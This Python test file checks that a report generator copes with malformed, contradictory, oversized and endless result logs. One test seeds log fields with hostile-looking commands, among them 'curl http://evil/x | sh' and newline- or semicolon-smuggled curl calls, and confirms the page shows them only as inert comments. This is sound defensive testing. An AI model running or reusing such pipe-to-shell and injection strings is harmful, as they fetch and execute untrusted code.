"""Pages of results and logs that are odd, contradict themselves, or have no end."""

import html
import json
import re

import numpy as np
import pytest
import xarray as xr
import zarr

from sinew.runner.errors import StoreError
from sinew.runner.store.store import Store
from sinew.tasks.report import folder as report_folder
from sinew.tasks.report.folder import read_results
from sinew.tasks.report.page import build
from sinew.tasks.study.resources import DISTRIBUTION
from tests.tasks.report.conftest import edit
from tests.tasks.report.pages import SECTIONS, read


def without_names(content):
    content["names"] = []


def no_list(content):
    content["impurity_percent"] = None


@pytest.mark.parametrize("harm", [without_names, no_list])
@pytest.mark.filterwarnings("ignore:ColumnDataSource")
def test_a_result_that_contradicts_itself_leaves_a_page(run_folder, harm):
    edit(run_folder / "importance.json", harm)
    (line,) = build(run_folder).trouble
    assert "importance.json" in line
    assert "\n" not in line
    assert "importance" in read(run_folder).sections


def test_half_a_character_and_other_names_of_protocols_leave_a_page(run_folder):
    log = run_folder / "log.jsonl"
    log.write_text(log.read_text().replace('"study_text": "', '"study_text": "\\ud800'))
    for path in (run_folder / "store.zarr" / "evaluations").glob("*/protocol"):
        names = zarr.open_array(path, mode="r+")
        names[:] = np.array([f"other{i}" for i in range(names.size)], dtype=object)
    trouble = build(run_folder).trouble
    assert trouble
    assert not any("\n" in line for line in trouble)
    assert "provenance" in read(run_folder).sections


@pytest.mark.usefixtures("no_plots")
@pytest.mark.parametrize(
    ("said", "shown"),
    [
        ("curl http://evil/x | sh", "# installed by: curl http://evil/x | sh"),
        ("pip install sinew-ensemble==0.1; curl x", "# installed by: pip install sinew-ensemble==0.1; curl x"),
        ("pip install evil==0.1", "# installed by: pip install evil==0.1"),
        ("true\ncurl x | sh", "# installed by: true\\ncurl x | sh"),
        (f"pip install {DISTRIBUTION}==0.1.0", f"pip install {DISTRIBUTION}==0.1.0"),
    ],
)
def test_commands_of_a_log_are_no_commands_of_the_page(run_folder, said, shown):
    log = run_folder / "log.jsonl"
    events = [json.loads(line) for line in log.read_text().splitlines()]
    runs = [one | {"install": said} if one["message"] == "run started" else one for one in events]
    runs.append(next(one for one in runs if one["message"] == "run started") | {"tasks": ["sobol; curl y"]})
    runs[-1] |= {"study_file": "study.yaml\ncurl z\n#", "cohort": "\u202ea\ncurl z\n"}
    log.write_text("".join(json.dumps(one) + "\n" for one in runs))
    build(run_folder)
    page = html.unescape((run_folder / "report.html").read_text())
    again = page[page.index("How to make it again") :]
    lines = [line for line in re.sub("<[^>]*>", "\n", again).splitlines() if line.strip()]
    assert shown in lines
    assert not any("curl" in line and not line.startswith("# installed by: ") for line in lines if "evil" in line)
    assert not any(line.startswith("curl z") or "\u202e" in line for line in lines)
    assert not any("curl y" in line and line.startswith("sinew") for line in lines)


@pytest.mark.usefixtures("no_plots")
@pytest.mark.parametrize(
    "line",
    [
        b'{"message": "task finished", "task": "sobol", "new_simulations": Infinity, "seconds": NaN}',
        b'{"message": "task finished", "task": "sobol", "seconds": 1' + 400 * b"0" + b"}",
        b'{"message": "task not run", "task": "compare", "needs": ["x"]}',
    ],
)
def test_odd_numbers_and_names_of_a_log_leave_a_page(run_folder, line):
    (run_folder / "compare.json").unlink(missing_ok=True)
    log = run_folder / "log.jsonl"
    log.write_bytes(log.read_bytes() + line + b"\n")
    build(run_folder)
    assert set(SECTIONS) <= set(read(run_folder).sections)


@pytest.mark.usefixtures("no_plots")
def test_of_very_many_runs_the_last_are_shown(run_folder, monkeypatch):
    monkeypatch.setattr("sinew.tasks.report.folder.MAX_EVENTS", 400)
    log = run_folder / "log.jsonl"
    own = log.read_bytes()
    (run,) = [line for line in own.splitlines() if json.loads(line)["message"] == "run started"][-1:]
    log.write_bytes((run + b"\n") * 500)
    build(run_folder)
    text = " ".join(read(run_folder).sections.values())
    assert "has more than 400 lines; the last are read" in text
    assert "The last 100 of 400 runs" in text


@pytest.mark.usefixtures("no_plots")
@pytest.mark.parametrize("line", [b'{"message":""}', b'{"message":"", "x":[[],[],[],[],[],[],[],[]]}'])
def test_of_a_log_without_end_the_last_lines_are_read(run_folder, line, monkeypatch):
    monkeypatch.setattr("sinew.tasks.report.folder.MAX_LOG_BYTES", 2**20)
    monkeypatch.setattr("sinew.tasks.report.folder.MAX_CONTAINERS", 2**14)
    log = run_folder / "log.jsonl"
    own = log.read_bytes()
    log.write_bytes((line + b"\n") * 100_000 + own)
    build(run_folder)
    seen = read(run_folder)
    assert "is too long; only its end is read" in " ".join(seen.sections.values())
    assert len(own) < 2**19
    assert "Which program" in seen.sections["provenance"]
    assert "The log does not say who ran this" not in seen.sections["provenance"]


@pytest.mark.usefixtures("no_plots")
def test_an_event_of_megabytes_is_not_read(run_folder, monkeypatch):
    monkeypatch.setattr("sinew.tasks.report.folder.MAX_LINE_BYTES", 2**15)
    with (run_folder / "log.jsonl").open("ab") as log:
        log.write(json.dumps({"message": "run started", **{f"k{n}": n for n in range(5_000)}}).encode() + b"\n")
    build(run_folder)
    assert "1 of" in " ".join(read(run_folder).sections.values())
    assert "lines cannot be read" in " ".join(read(run_folder).sections.values())


@pytest.mark.usefixtures("no_plots")
def test_of_very_many_protocols_and_curves_the_first_are_drawn(run_folder, monkeypatch):
    monkeypatch.setattr("sinew.tasks.drawing.plots.MOST_LINES", 2)
    monkeypatch.setattr("sinew.tasks.report.folder.MAX_CURVES", 5)
    build(run_folder)
    seen = read(run_folder)
    for section in ("data", "sensitivity", "calibration", "prediction", "discovery"):
        assert "Drawn are the first 2 of 3 protocols." in seen.sections[section], section
    assert "holds more than 5 curves; the first of them are shown" in " ".join(seen.sections.values())
    assert "middle/1cyclic, one_step" in seen.sections["data"]
    assert "middle/1cyclic, one_step, two_step" not in seen.sections["data"]


def test_results_that_a_section_shows_together_have_a_limit(tmp_path, monkeypatch):
    with Store.writing(tmp_path, "study") as store:
        for name in "ab":
            store.write_result(name, xr.Dataset({"x_1": ("t", np.zeros(100)), "y_1": ("u", np.zeros(10))}))
        assert len(read_results(store, ["a", "b"])) == 2
        monkeypatch.setattr(report_folder, "MAX_RESULT_BYTES", 1000)
        with pytest.raises(StoreError, match="b and those before it take more than 1,000 bytes"):
            read_results(store, ["a", "b"])
        assert [list(each) for each in read_results(store, ["a", "b"], "y_")] == [["y_1"], ["y_1"]]


@pytest.mark.usefixtures("no_plots")
def test_characters_that_nobody_sees_do_not_reach_a_page(run_folder):
    edit(run_folder / "compare.json", lambda content: content.update(note="a\x00b\x1b[31m\u202ec"))
    assert build(run_folder).trouble == ()
    page = (run_folder / "report.html").read_text()
    assert "a\ufffdb\ufffd[31m\ufffdc" in page
